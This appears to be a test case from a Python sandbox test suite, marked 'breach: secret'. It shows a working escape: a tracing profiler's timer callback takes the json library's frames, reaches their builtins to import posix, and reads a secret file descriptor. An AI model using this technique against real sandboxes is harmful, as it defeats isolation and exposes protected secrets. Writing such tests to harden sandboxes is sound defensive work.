# The timer of a tracing profiler runs in all code, the library's too, and takes what its frames have.
# breach: secret
# only: 3.15+
import sys
import profiling.tracing
found = []
def timer():
    frame = sys._getframe(1)
    if "/json/" in frame.f_code.co_filename:
        system = frame.f_builtins["__import__"]("posix", frame.f_globals)
        found.append(system.pread(SECRET_FD, 100, 0))
    return 0
import json
profiler = profiling.tracing.Profile(timer)
profiler.runcall(json.dumps, {"a": 1}, indent=1)
found
